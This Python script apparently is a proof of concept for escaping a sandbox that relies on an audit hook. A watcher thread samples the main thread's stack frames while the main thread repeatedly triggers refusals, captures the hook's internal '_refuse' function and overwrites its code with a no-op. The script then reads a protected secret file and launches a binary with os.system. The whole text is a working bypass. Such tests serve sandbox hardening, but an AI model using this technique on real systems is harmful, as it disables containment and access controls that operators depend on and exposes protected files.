# ALL: sys._current_frames() is 'harmless'; a watcher thread samples the main thread while it sits inside the hook (library-level refusals in a loop) and grabs _refuse
import sys, codecs
threading = sys.modules['threading']
main_id = threading.get_ident()
found = {}
stop = False
def watch():
    while not stop and not found:
        f = sys._current_frames().get(main_id)
        while f is not None:
            if f.f_code.co_name == 'hook' and f.f_code.co_filename.endswith('launcher.py'):
                found['_refuse'] = f.f_locals.get('_refuse'); break
            f = f.f_back
t = threading.Thread(target=watch); t.start()
n = 0
while not found and n < 200000:
    n += 1
    try: codecs.open('/canary/secret.txt').close()
    except PermissionError: pass
stop = True; t.join()
print('tries', n, bool(found))
def nop(*a, **k): return None
found['_refuse'].__code__ = nop.__code__
print(open('/canary/secret.txt').read())
open('/canary/out/via_current_frames', 'w').close()
import os
sys.stdout.flush(); os.system('/canary/bin/reveal')
